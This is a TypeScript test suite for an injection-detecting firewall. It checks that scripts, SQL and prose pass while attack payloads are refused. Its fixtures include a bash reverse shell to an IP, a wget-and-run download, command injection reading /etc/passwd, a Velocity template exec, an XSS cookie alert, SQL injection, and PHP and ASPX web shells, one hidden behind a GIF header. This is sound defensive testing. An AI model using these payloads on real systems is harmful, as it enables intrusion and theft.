// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shells write so.
import { ok } from "node:assert/strict";
import { describe, test } from "node:test";
import { createExaminer, DETECTORS, PLACE_DETECTORS } from "../../src/detect/index.ts";

const examiner = createExaminer(DETECTORS);
const SURE = 4;

function weightOf(value: string): number {
  const found = examiner.examine(Buffer.from(value, "latin1").toString("latin1"));
  return Math.max(0, ...[...found.values()].map(({ weight }) => weight));
}

const DOCUMENTS: Readonly<Record<string, string>> = {
  "a script of a shell":
    '#!/bin/sh\nset -e\ncat /etc/hosts | grep "$1" > /dev/null\nrm -rf /var/tmp/build\nif [ -n "$2" ]; then\n  curl -s "$2" | tar xz\nfi\n',
  "statements of SQL": "-- tables\nCREATE TABLE a (id INT);\nINSERT INTO a VALUES (1);\nDROP TABLE b;\nEXEC sp_configure 'x', 1;\n",
  "a program in PHP":
    "<?php\n\nnamespace App;\n\n/** Reads it. */\nclass Reader {\n  public function read($x) {\n    return file_get_contents($x);\n  }\n}\n",
  "a question with a block of code": "Why does this fail?\n\n```sh\nsudo cat /etc/shadow; id\n```\n\nThanks!",
  "a sentence and the lines it speaks of":
    "Here is what I run every night:\n\n  cd /srv/app\n  tar czf /var/backups/a.tgz .\n  find /var/backups -mtime +7 -delete\n",
};

const INJECTIONS: Readonly<Record<string, string>> = {
  "a command behind a value": "127.0.0.1\ncat /etc/passwd\nid",
  "a command behind a line end": "\nwget http://h.example/a -O /tmp/a\nsh /tmp/a",
  "a shell over the network in a script": "#!/bin/bash\nset -e\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
  "a template from its first byte":
    "#set($x='')\n#set($rt=$x.class.forName('java.lang.Runtime'))\n#set($y=$rt.getRuntime())\n$y.exec('id')",
  "a script in a page": "<html>\n<body>\n  <script>alert(document.cookie)</script>\n</body>\n</html>",
};

describe("The firewall", () => {
  for (const [name, text] of Object.entries(DOCUMENTS)) test(`lets ${name} through`, () => ok(weightOf(text) < SURE));
  for (const [name, text] of Object.entries(INJECTIONS)) test(`refuses ${name}`, () => ok(weightOf(text) >= SURE));

  test("pays for the texts under the layers of a value as for the value", () => {
    const inner = "a harmless sentence of some length, and no more than that.";
    const steps = (value: string): number => {
      let sum = 0;
      examiner.examine(value, (more) => {
        sum += more;
      });
      return sum;
    };
    const plain = steps(inner);
    ok(steps(Buffer.from(inner).toString("base64")) >= 2 * plain);
  });
});

const FILES: readonly (readonly [name: string, detector: string, content: string, weightMin: 0 | 4])[] = [
  ["page code behind the beginning of a picture", "upload", "GIF89a\n<?php passthru($_GET['c']); ?>", 4],
  ["page code of the .NET kind", "upload", '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe"); %>', 4],
  ["page code that runs what a form sends", "upload", "<?php array_map('assert',$_POST); ?>", 4],
  ["a page", "upload", "<!DOCTYPE html>\n<html><body><p>Hi</p></body></html>", 0],
  ["a declaration of XML", "upload", '<?xml version="1.0"?><a/>', 0],
  ["an attack in one line that is called a file", "part", "1' or 2=2 -- ", 4],
  ["a note of several lines", "part", "1' or 2=2 -- \nis what they typed", 0],
  ["a note of one line", "part", "See you at ten; bring the papers.", 0],
];

describe("The firewall, of what is sent as a file,", () => {
  for (const [name, detector, content, weightMin] of FILES)
    test(`${weightMin === 0 ? "lets through" : "refuses"} ${name}`, () => {
      const weight = PLACE_DETECTORS.find((each) => each.name === detector)?.find(content)?.weight ?? 0;
      ok(weightMin === 0 ? weight < SURE : weight >= weightMin, `${weight}`);
    });
});
